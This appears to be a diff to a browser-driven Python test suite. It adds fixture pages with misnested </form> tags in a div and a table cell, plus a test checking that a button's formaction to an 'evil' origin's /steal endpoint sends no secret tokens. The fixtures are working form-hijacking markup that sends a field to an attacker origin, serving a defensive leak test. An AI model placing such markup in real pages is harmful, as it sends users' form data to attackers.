@@ -164,6 +164,14 @@ PAGES: dict[str, Callable[[str], str]] = {
     "/leak/noscript-open-off-origin-form": lambda evil: (
         f'<noscript><form method="post" action="{evil}/steal"><input name=q></noscript>'
         f'<form method="post" action="/save">{FIELD}<button id="go">Go</button></form>'),
+    # (a </form> before the end of an element opened in the form: the browser keeps the
+    # element, and the button after the </form> in it, in the form)
+    "/leak/misnested-end-div": lambda evil: (
+        f'<form method="post" action="/save"><div>{FIELD}</form>'
+        f'<button id="go" formaction="{evil}/steal">Go</button></div>'),
+    "/leak/misnested-end-table": lambda evil: (
+        f'<form method="post" action="/save"><table><tr><td>{FIELD}</form>'
+        f'<button id="go" formaction="{evil}/steal">Go</button></td></tr></table>'),
     "/home/noscript-closed-form": lambda evil: (
         '<noscript><form method="get" action="/search"><input name=q></form></noscript>'
         f'<form method="post" action="/save">{FIELD}<button id="go">Go</button></form>'),
@@ -467,6 +475,31 @@ def test_no_tokens_join_a_form_left_open_in_noscript_with_scripting_off(
         if elsewhere:
             received = recorders[1].wait_for(method, where)
             assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)
+    finally:
+        context.close()
+
+
+@pytest.mark.parametrize("path", ["/leak/misnested-end-div", "/leak/misnested-end-table"],
+                         ids=["div", "table-cell"])
+def test_no_tokens_leave_through_a_button_after_a_misnested_form_end(
+    browser: Any, servers: tuple[Recorder, str, Recorder, str],
+    recorders: tuple[Recorder, Recorder], path: str,
+) -> None:
+    """A </form> before the end of an element opened inside the form leaves the element in
+    the form: Chromium submits the form with the button after the </form> (its field goes
+    with it, to the other origin), and the page has no tokens to send there. (Scripting
+    off: nothing in the page checks the submission.)"""
+    context = browser.new_context(java_script_enabled=False)
+    try:
+        page = context.new_page()
+        response = page.goto(servers[1] + path)
+        assert 'name="__EVENTTARGET"' in response.text()
+        assert not any(f'name="{token}"' in response.text() for token in TOKENS)
+        request = click_and_capture(page, "#go", lambda r: r.url.startswith(servers[3] + "/steal"))
+        assert request.method == "POST" and sent_fields(request)["note"] == "kept"
+        assert not set(TOKENS) & set(sent_fields(request))
+        received = recorders[1].wait_for("POST", "/steal")
+        assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)
     finally:
         context.close()
 
